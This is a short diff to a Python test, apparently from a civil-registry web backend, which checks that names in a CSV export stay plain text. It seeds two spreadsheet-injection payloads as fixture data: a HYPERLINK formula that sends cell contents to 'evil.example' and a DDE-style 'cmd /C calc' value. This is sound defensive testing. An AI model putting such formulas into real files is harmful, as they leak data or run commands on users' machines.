@@ -13,6 +13,7 @@ from backend.extensions import db
 from tests.dossiers import conftest as dossier_fixtures
 from tests.helpers import dossiers
 from tests.helpers.signin import bearer
+from tests.helpers.work import unit_of_work
 
 _catalog, clock, filing = dossier_fixtures._catalog, dossier_fixtures.clock, dossier_fixtures.filing
 WARD, BIRTH = dossiers.WARD, dossiers.BIRTH
@@ -22,7 +23,7 @@ FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Xem chi tiết")'
 def test_names_in_the_csv_stay_text(app, client, filing, make_staff):
     filing.filed()
     leader = make_staff("0911100002", agency=WARD, role="leader")[0]
-    with app.app_context():
+    with unit_of_work(app):
         db.session.execute(sa.update(Procedure).where(Procedure.code == BIRTH).values(name=FORMULA))
         db.session.execute(
             sa.update(Agency).where(Agency.code == WARD).values(name="@SUM(1+1)*cmd|' /C calc'!A0")
